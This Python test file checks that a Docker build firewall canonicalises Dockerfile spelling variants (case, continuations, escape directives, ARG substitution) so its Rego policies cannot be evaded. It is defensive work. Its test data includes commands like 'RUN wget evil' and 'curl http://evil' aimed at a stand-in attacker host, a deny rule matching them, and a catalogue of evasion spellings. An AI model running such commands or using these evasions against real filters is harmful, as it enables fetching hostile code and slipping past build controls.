"""Canonical Dockerfile steps: what the build policy sees and what dsfw forwards.

Plain asserts for the spellings the issue lists, hypothesis for spelling
variants, and the official Go parser (PyPI ``dockerfile``) as a differential
oracle: the Dockerfile dsfw forwards must parse, in Go, into the very steps
the policy was shown.
"""
from __future__ import annotations

import io
import json
import tarfile

import dockerfile as goparser
import pytest
import regorus
from hypothesis import given, settings, strategies as st

from dsfw.build.context import rewrite_context
from dsfw.build.dockerfile import AmbiguousDockerfile, DockerfileError, InvalidDockerfile
from dsfw.build.splice import replace_member
from dsfw.build.steps import canonical_dockerfile, dockerfile_input

SHIPPED_BUILD = open(__file__.rsplit("/tests/", 1)[0] + "/policies/build.rego").read()
# The original firewall's example build policy, as its README prints it (without the second
# `nodeImage { true }` body, which made it refuse every build).
ORIGINAL_BUILD = '''package docker.build
allow {
not nodeImage
}
nodeImage {
images[_] = "node"
}
## Get all FROM lines ##
images[output] {
line := input.Dockerfile[_]
startswith(line, "FROM")
output = substring(line, 5, -1)
}
'''


def run_line_policy(phrase: str) -> str:
    """A line check with a space after the keyword, as people write them."""
    return f'''package docker.build
allow {{
not forbidden
}}
forbidden {{
line := input.Dockerfile[_]
startswith(line, "RUN ")
contains(line, "{phrase}")
}}
'''


RUN_LINE_BUILD = run_line_policy("wget evil")

# Every spelling of "FROM node" the issue lists, with the build args that go with it.
NODE_SPELLINGS = [
    ("plain", b"FROM node\n", None),
    ("two spaces", b"FROM  node\n", None),
    ("lower case", b"from node\n", None),
    ("mixed case", b"fRoM node\n", None),
    ("continuation in keyword", b"FR\\\nOM node\n", None),
    ("continuation and comment", b"FROM \\\n# a comment\n  node\n", None),
    ("escape directive", b"# escape=`\nFR`\nOM node\n", None),
    ("escape directive in word", b"# escape=`\nFROM no`\nde\n", None),
    ("byte-order mark", b"\xef\xbb\xbfFROM node\n", None),
    ("CRLF", b"FROM node\r\nRUN true\r\n", None),
    ("double quotes", b'FROM "node"\n', None),
    ("single quotes inside", b"FROM no'de'\n", None),
    ("escaped letter", b"FROM no\\de\n", None),
    ("unset variable", b"FROM no${UNSET}de\n", None),
    ("unset variable default", b"FROM ${UNSET:-node}\n", None),
    ("ARG default", b"ARG BASE=node\nFROM $BASE\n", None),
    ("ARG braces", b"ARG BASE=node\nFROM ${BASE}\n", None),
    ("ARG quoted", b'ARG BASE="node"\nFROM "$BASE"\n', None),
    ("buildargs", b"ARG BASE=busybox\nFROM $BASE\n", {"BASE": "node"}),
    ("buildargs without default", b"ARG BASE\nFROM $BASE\n", {"BASE": "node"}),
    ("proxy build arg", b"FROM $HTTP_PROXY\n", {"HTTP_PROXY": "node"}),
    ("tab", b"FROM\tnode\n", None),
    ("vertical tab", b"FROM\x0bnode\n", None),
    ("form feed", b"FROM\x0cnode\n", None),
    ("trailing space", b"FROM node \n", None),
    ("leading space", b"   FROM node\n", None),
    ("no final newline", b"FROM node", None),
    ("stage alias", b"FROM node AS Build\n", None),
]


def allowed(policy: str, fields: dict) -> bool:
    engine = regorus.Engine()
    engine.set_rego_v0(True)
    engine.add_policy("build.rego", policy)
    engine.set_input_json(json.dumps(fields))
    return engine.eval_rule("data.docker.build.allow") is True


@pytest.mark.parametrize("name, text, buildargs", NODE_SPELLINGS, ids=[n for n, _, _ in NODE_SPELLINGS])
def test_every_spelling_of_from_node_is_one_step(name, text, buildargs):
    out = canonical_dockerfile(text, buildargs)
    first = out.fields["Dockerfile"][[i for i, line in enumerate(out.fields["Dockerfile"])
                                      if line.startswith("FROM")][0]]
    assert first in ("FROM node", "FROM node AS build")
    assert first.encode() + b"\n" in out.rendered
    assert not allowed(SHIPPED_BUILD, out.fields)
    if name != "stage alias":  # the original's substring(line, 5, -1) never saw "AS" lines
        assert not allowed(ORIGINAL_BUILD, out.fields)


def test_the_policies_still_allow_other_images():
    for text in (b"FROM busybox\n", b"ARG B=busybox\nFROM $B\nRUN echo node\n"):
        fields = dockerfile_input(text)
        assert allowed(SHIPPED_BUILD, fields) and allowed(ORIGINAL_BUILD, fields)


RUN_SPELLINGS = [b"RUN wget evil\n", b"RUN\twget evil\n", b"RUN\x0bwget evil\n", b"run wget evil\n",
                 b"RUN  wget evil\n", b"R\\\nUN wget evil\n", b"RUN wget \\\n# c\nevil\n",
                 b'RUN ["wget evil"]\n', b'RUN ["\\u0077get evil"]\n', b'RUN ["wg\\u0065t evil"]\n',
                 b"RUN wget evil\r\n", b"# escape=`\nRUN wget `\nevil\n"]
ONBUILD_SPELLINGS = [b"ONBUILD RUN wget evil\n", b"ONBUILD\trun  wget evil\n",
                     b'onbuild RUN ["wg\\u0065t", "evil"]\n']


def with_from(text: bytes) -> bytes:
    """``text`` after a FROM line (and after its escape directive, which must come first)."""
    directive = b"# escape=`\n"
    if text.startswith(directive):
        return directive + b"FROM busybox\n" + text[len(directive):]
    return b"FROM busybox\n" + text


@pytest.mark.parametrize("run", RUN_SPELLINGS)
def test_line_based_run_check_holds_against_every_spelling(run):
    fields = dockerfile_input(with_from(run))
    assert not allowed(RUN_LINE_BUILD, fields), fields["Dockerfile"]


def test_canonical_lines_of_a_full_dockerfile():
    text = (b"# syntax=docker/dockerfile:1\n"
            b"ARG  BASE=busybox\n"
            b"from --platform=$BUILDPLATFORM  ${BASE}:1  as  Build\n"
            b"copy  --chown=\"a b\"   src  /dst\n"
            b"run --mount=type=cache,target=/c   make \\\n   # inside\n   && make install\n"
            b"cmd [ \"sh\" ,  \"-c\", \"echo \\u00e9\" ]\n"
            b"healthcheck  --interval=5s  cmd  [\"true\"]\n"
            b"onbuild   run  [\"x\"]\n"
            b"run -- --not-a-flag\n")
    out = canonical_dockerfile(text)
    assert out.fields["Dockerfile"] == [
        "ARG BASE=busybox",
        "FROM --platform=$BUILDPLATFORM busybox:1 AS build",
        'COPY --chown="a b" src  /dst',
        "RUN --mount=type=cache,target=/c make    && make install",
        'CMD ["sh", "-c", "echo é"]',
        'HEALTHCHECK --interval=5s CMD ["true"]',
        'ONBUILD RUN ["x"]',
        "RUN -- --not-a-flag",
    ]
    assert out.rendered.decode() == "".join(f"{line}\n" for line in out.fields["Dockerfile"])
    assert out.fields["DockerfileRaw"] == text.decode().split("\n")
    onbuild = [i for i in out.fields["DockerfileParsed"]["Instructions"] if i["Cmd"] == "ONBUILD"]
    assert onbuild[0]["Args"] == ['RUN ["x"]']


def test_backtick_escape_is_forwarded_with_its_directive():
    out = canonical_dockerfile(b"# escape=`\nFROM busybox\nCOPY a` b c\\d /x\n")
    assert out.rendered == b"# escape=`\nFROM busybox\nCOPY a` b c\\d /x\n"
    assert out.fields["DockerfileParsed"]["EscapeChar"] == "`"


def test_an_already_canonical_dockerfile_is_forwarded_byte_for_byte():
    text = b"FROM busybox AS b\nRUN echo hi\nFROM b\nCMD [\"sh\"]\n"
    assert canonical_dockerfile(text).rendered == text


@pytest.mark.parametrize("text, buildargs, reason", [
    (b"ARG X='$Y'\nFROM $X\n", None, "not a plain image reference"),
    (b"FROM $UNSET\n", None, "not a plain image reference"),
    (b"ARG X=a\nFROM $X\n", {"X": "node x"}, "not a plain image reference"),
    (b"FROM busybox\nRUN <<EOF\necho hi\nEOF\n", None, "heredocs"),
    (b"FROM busybox\nRUN --m\xc3\xa9=x true\n", None, "non-ASCII"),
])
def test_unrenderable_steps_are_refused_with_the_reason(text, buildargs, reason):
    with pytest.raises(AmbiguousDockerfile, match=reason):
        canonical_dockerfile(text, buildargs)


def test_json_is_read_as_gos_decoder_reads_it():
    p = dockerfile_input(b'FROM a\nRUN ["echo", "x"] trailing\nRUN ["\\ud800"]\nRUN [1e999]\n')
    runs = [i for i in p["DockerfileParsed"]["Instructions"] if i["Cmd"] == "RUN"]
    assert runs[0]["Json"] and runs[0]["Args"] == ["echo", "x"]
    assert runs[1]["Args"] == ["\ufffd"]
    assert not runs[2]["Json"] and runs[2]["Args"] == ["[1e999]"]
    with pytest.raises(InvalidDockerfile):
        dockerfile_input(b"FROM a\nRUN [1]\n")


def test_keyword_case_folding_gives_the_ascii_keyword():
    out = dockerfile_input("FROM a\nWOR\u212aDIR /x\n".encode())
    assert out["Dockerfile"][1] == "WORKDIR /x"


# --- RUN commands ------------------------------------------------------------------------------

def runs(text: bytes, buildargs=None) -> list[dict]:
    return dockerfile_input(text, buildargs)["RunCommands"]


def test_run_commands_apply_shell_and_substitute_known_values():
    out = runs(b"FROM a\nARG URL=http://evil\nENV T=/tmp\nRUN curl $URL -o ${T}/x '$URL' \\$URL\n"
               b"SHELL [\"/bin/bash\", \"-eu\", \"-c\"]\nRUN wget ${URL:-none} $HOME\n"
               b"RUN [\"sh\", \"-c\", \"curl $URL\"]\n")
    assert out[0]["Command"] == "/bin/sh -c curl http://evil -o /tmp/x '$URL' \\$URL"
    assert out[0]["Raw"] == "/bin/sh -c curl $URL -o ${T}/x '$URL' \\$URL"
    assert out[1]["Argv"] == ["/bin/bash", "-eu", "-c", "wget http://evil $HOME"]
    assert out[2]["Json"] and out[2]["Command"] == "sh -c curl http://evil"


@pytest.mark.parametrize("run", RUN_SPELLINGS + ONBUILD_SPELLINGS)
def test_every_run_spelling_gives_the_same_command(run):
    (command,) = runs(with_from(run))
    assert command["Command"] in ("/bin/sh -c wget evil", "wget evil")
    assert command["OnBuild"] == run.upper().startswith(b"ONBUILD")


def test_run_commands_follow_arg_scope_stages_and_onbuild():
    text = (b"ARG V=meta\nFROM a AS one\nENV E=env1\nSHELL [\"/bin/ash\", \"-c\"]\n"
            b"RUN echo $V $E\nARG V\nRUN echo $V\nONBUILD RUN echo $E $V\n"
            b"FROM one\nRUN echo $E\nFROM a\nRUN echo $E\n")
    out = runs(text, {"V": "secret"})
    assert [r["Command"] for r in out] == [
        "/bin/ash -c echo $V env1", "/bin/ash -c echo secret",
        "/bin/ash -c echo env1 $V", "/bin/ash -c echo env1", "/bin/sh -c echo $E"]
    assert [r["OnBuild"] for r in out] == [False, False, True, False, False]
    assert [r["Stage"] for r in out] == [0, 0, 0, 1, 2]
    assert out[1]["BuildArgs"] == ["V"] and out[0]["BuildArgs"] == []


def test_build_arg_values_are_marked_for_redaction():
    p = dockerfile_input(b"ARG TOKEN\nFROM a\nARG TOKEN\nENV T=$TOKEN\nRUN use $T\n",
                         {"TOKEN": "s3cret"})
    assert p["DockerfileParsed"]["MetaArgs"][0]["FromBuildArgs"] is True
    by_cmd = {i["Cmd"]: i for i in p["DockerfileParsed"]["Instructions"]}
    assert by_cmd["ARG"]["BuildArgs"] == ["TOKEN"] and by_cmd["ENV"]["BuildArgs"] == ["TOKEN"]
    assert p["RunCommands"][0]["Command"] == "/bin/sh -c use s3cret"
    assert p["RunCommands"][0]["BuildArgs"] == ["T"]


# --- the forwarded tar -------------------------------------------------------------------------

def tar_of(files: dict[str, bytes], links: dict[str, str] = {}) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.mtime = len(data), 0o640, 1_700_000_000
            tar.addfile(info, io.BytesIO(data))
        for name, target in links.items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.LNKTYPE, target
            tar.addfile(info)
    return out.getvalue()


@pytest.mark.parametrize("dockerfile_path, links", [("Dockerfile", {}),
                                                    ("d/" + "x" * 120 + "/Dockerfile", {}),
                                                    ("link", {"link": "Dockerfile"})])
def test_forwarded_context_holds_the_rendering_and_everything_else(dockerfile_path, links):
    original = b"from  node\nCOPY . /app\n"
    files = {"a.txt": b"a" * 700, ("Dockerfile" if links else dockerfile_path): original,
             "z.bin": bytes(range(256)) * 9}
    out = io.BytesIO()
    ctx = rewrite_context(io.BytesIO(tar_of(files, links)), out, dockerfile_path)
    canonical = canonical_dockerfile(ctx.dockerfile)
    spliced = replace_member(out, ctx.dockerfile_member, ctx.output_bytes, canonical.rendered)
    data = spliced.read()
    assert spliced.seek(0, 2) == len(data) and len(data) % 512 == 0
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        members = {m.name: m for m in tar.getmembers()}
        assert tar.extractfile(members[dockerfile_path]).read() == b"FROM node\nCOPY . /app\n"
        assert members["Dockerfile" if links else dockerfile_path].mode == 0o640
        assert members["Dockerfile" if links else dockerfile_path].mtime == 1_700_000_000
        for name, content in files.items():
            if content is not original:
                assert tar.extractfile(members[name]).read() == content
    spliced.seek(100)
    assert spliced.read(1000) == data[100:1100]
    spliced.close()
    assert out.closed


# --- hypothesis: spelling variants -------------------------------------------------------------

SIMPLE = [("FROM", "busybox:1 AS base"), ("ARG", "V=1"), ("ENV", "A=b"), ("RUN", "echo hi && wget x"),
          ("COPY", "--chown=1:2 a /b"), ("WORKDIR", "/w"), ("LABEL", "k=v"), ("USER", "1000"),
          ("EXPOSE", "80"), ("RUN", '["sh", "-c", "echo x"]'), ("CMD", '["sh"]'),
          ("FROM", "base")]
BLANKS = st.text(alphabet=" \t\x0b\x0c", min_size=1, max_size=3)


@st.composite
def spelled(draw, keyword: str, args: str, escape: str) -> str:
    """One instruction in some spelling the builder reads as the plain one."""
    kw = "".join(c.lower() if draw(st.booleans()) else c for c in keyword)
    if draw(st.booleans()):  # a continuation inside the keyword, maybe with a comment line
        cut = draw(st.integers(1, len(kw) - 1))
        comment = "  # note\n" if draw(st.booleans()) else ""
        kw = kw[:cut] + escape + "\n" + comment + kw[cut:]
    lead = draw(st.sampled_from(["", " ", "\t"]))
    return lead + kw + draw(BLANKS) + args + draw(st.sampled_from(["", " ", "\t"]))


@st.composite
def dockerfiles(draw) -> tuple[bytes, list[str]]:
    escape = draw(st.sampled_from(["\\", "`"]))
    steps = draw(st.lists(st.sampled_from(SIMPLE[1:-1]), max_size=6))
    steps = [SIMPLE[0]] + steps + [SIMPLE[-1]]
    eol = draw(st.sampled_from(["\n", "\r\n"]))
    lines = [draw(spelled(k, a, escape)) for k, a in steps]
    body = ("# escape=`\n" if escape == "`" else "") + eol.join(lines) + eol
    if draw(st.booleans()):
        body = "\ufeff" + body
    plain = [f"{k} {a}" for k, a in steps]
    plain[0] = "FROM busybox:1 AS base"
    return body.encode(), plain


@settings(max_examples=300, deadline=None)
@given(dockerfiles())
def test_spelling_variants_give_the_plain_steps(case):
    text, plain = case
    out = canonical_dockerfile(text)
    assert out.fields["Dockerfile"] == plain
    assert canonical_dockerfile(out.rendered).fields["Dockerfile"] == plain


# --- the official Go parser as oracle ----------------------------------------------------------

def go_steps(text: bytes) -> list[tuple]:
    """(keyword, flags, json, value) per instruction, as the Go parser reads ``text``."""
    out = []
    for c in goparser.parse_string(text.decode("utf-8")):
        if c.cmd is None or c.cmd.lower() not in goparser.all_cmds():
            # dockerd's instruction layer refuses what the parser passes on as unknown
            raise goparser.GoParseError(f"unknown instruction: {c.cmd}")
        value = list(c.value)
        if c.cmd.upper() == "HEALTHCHECK" and value:
            value[0] = value[0].upper()
        out.append((c.cmd.upper(), (c.sub_cmd or "").upper(), tuple(c.flags), c.json,
                    tuple(value)))
    return out


def oracle_agrees(text: bytes, buildargs=None) -> None:
    try:
        out = canonical_dockerfile(text, buildargs)
    except DockerfileError:
        return
    original, forwarded = go_steps(text), go_steps(out.rendered)
    assert len(forwarded) == len(original) == len(out.fields["Dockerfile"])
    for before, after, step in zip(original, forwarded, out.fields["Dockerfile"]):
        assert after[0] == step.split(" ")[0]
        if after[0] == "FROM":  # dsfw writes the image out; everything else is the same
            image = step.split(" ")[1 + len(after[2])]
            assert after[4][0] == image  # and "as Name" is "AS name": both case-insensitive
            assert [w.lower() for w in before[4][1:]] == [w.lower() for w in after[4][1:]]
            assert before[:4] == after[:4]
        else:
            assert before == after, (text, out.rendered)


@settings(max_examples=300, deadline=None)
@given(dockerfiles())
def test_go_parser_reads_the_forwarded_dockerfile_as_the_original(case):
    oracle_agrees(case[0])


_PIECES = st.sampled_from(list("FROMRUNCOPYENVARGonbuild[]\"'$`\\{}:-=#,u0 \t\x0b\n\r")
                          + ["\\u0065", "--from=x ", "--mount=a=b ", "\n# c\n", "\\\n", "`\n",
                             "FROM a\n", "RUN ", '["a"]', "# escape=`\n", "$X", "${X:-y}"])
_KEYWORDS = st.sampled_from(["RUN", "run", "CMD", "COPY", "ADD", "ENV", "ARG", "LABEL", "ONBUILD RUN",
                             "HEALTHCHECK CMD", "SHELL", "WORKDIR", "USER", "EXPOSE", "VOLUME",
                             "ENTRYPOINT", "STOPSIGNAL", "FROM a AS", "FROM"])
HOSTILE = (st.lists(st.tuples(_KEYWORDS, st.sampled_from([" ", "\t", "\x0b", "  "]),
                              st.lists(_PIECES, min_size=1, max_size=12).map("".join)),
                    max_size=4).map(lambda lines: "".join(f"{k}{s}{a}\n" for k, s, a in lines))
           | st.lists(_PIECES, max_size=40).map("".join))


@settings(max_examples=500, deadline=None)
@given(HOSTILE)
def test_go_parser_agrees_on_hostile_text(body):
    text = ("FROM busybox\n" + body).encode()
    try:
        go_steps(text)
    except goparser.GoParseError:
        with pytest.raises(DockerfileError):
            canonical_dockerfile(text)
        return
    oracle_agrees(text)


@pytest.mark.parametrize("text", [t for _, t, _ in NODE_SPELLINGS]
                         + [with_from(t) for t in RUN_SPELLINGS + ONBUILD_SPELLINGS])
def test_go_parser_agrees_on_the_listed_spellings(text):
    oracle_agrees(text)
